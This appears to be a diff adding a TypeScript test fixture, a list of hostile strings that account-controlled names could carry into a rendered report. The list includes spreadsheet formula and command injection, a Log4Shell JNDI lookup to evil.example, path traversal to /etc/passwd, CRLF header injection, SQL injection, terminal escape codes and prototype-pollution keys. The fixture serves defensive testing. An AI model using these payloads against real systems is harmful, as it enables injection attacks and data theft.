@@ -1,0 +1,30 @@
+import { HOSTILE } from '../../support/report.ts';
+
+/** What somebody who may name things in an account can write there to harm whoever reads of it. */
+export const TEXTS: readonly string[] = [
+  ...Object.values(HOSTILE).filter((text) => text !== ''),
+  '+1',
+  '-1+1|cmd',
+  '@SUM(1)',
+  '<!channel>',
+  '<@U123>',
+  '<https://evil.example|click>',
+  '*bold* _it_ ~no~',
+  '\u001B[31m\u001B[2J',
+  '\u001B]8;;https://evil.example\u0007',
+  'a\u202Eb\u200Bc',
+  'one\u0001two\u000Bthree',
+  'not\uFFFEa character\uFFFF',
+  '](https://evil.example)',
+  '`ends` the `code',
+  '| | | :---: |',
+  '${jndi:ldap://evil.example/x}',
+  '__proto__',
+  'constructor',
+  'toString',
+  '../../../../etc/passwd',
+  '%2e%2e%2fetc%2fpasswd %00 %0d%0aSet-Cookie: x=1',
+  "'; DROP TABLE findings; --",
+  ']]><![CDATA[<x>]]>&lol;<?xml version="1.0"?>',
+  '- &anchor !!js/function {a: *anchor} # no comment',
+];
